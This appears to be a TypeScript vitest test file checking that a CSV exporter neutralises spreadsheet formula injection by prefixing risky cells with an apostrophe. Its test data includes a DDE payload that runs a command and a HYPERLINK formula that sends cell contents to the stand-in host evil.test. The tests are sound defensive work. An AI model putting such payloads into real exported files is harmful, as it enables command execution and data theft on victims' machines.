import { describe, expect, it } from 'vitest'
import { csvRecord, unguarded } from './csv-text.ts'
import { makeCsvReader } from './import/csv-reader.ts'

/** Texts that a spreadsheet calculates, or takes for what ends a cell. */
const formulas = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  '+1+1',
  '-1-1',
  '@SUM(1)',
  '+49 151 23456789',
  '-',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '＝1+1',
  '＋1＋1',
  '－1',
  '＠x',
  "'=1",
  "''=1",
  '=1,"2";3\r\n=4',
]
/** And texts that are none, or plain numbers. */
const plain = ['', 'a=1', '1', '-1', '+4915123456789', '-0.0079', "it's", "'quoted'", '#1', 'a\n=1', '(1)', '1-1']

const cellsOf = (text: string) => {
  const reader = makeCsvReader()
  return [...reader.read(text), ...reader.end()].map(({ cells }) => cells)
}

describe('a cell', () => {
  it.each(formulas)('that begins as %j does is text to a spreadsheet', (text) => {
    const [[cell, next] = [], ...more] = cellsOf(csvRecord([text, 'next']))
    expect([next, more]).toEqual(['next', []])
    expect(cell).toBe(`'${text}`)
    expect(unguarded(cell ?? '')).toBe(text)
  })

  it.each(plain)('that is %j stays as it is', (text) => {
    const [[cell] = []] = cellsOf(csvRecord([text, 'next']))
    expect([cell, unguarded(text)]).toEqual([text, text])
  })
})
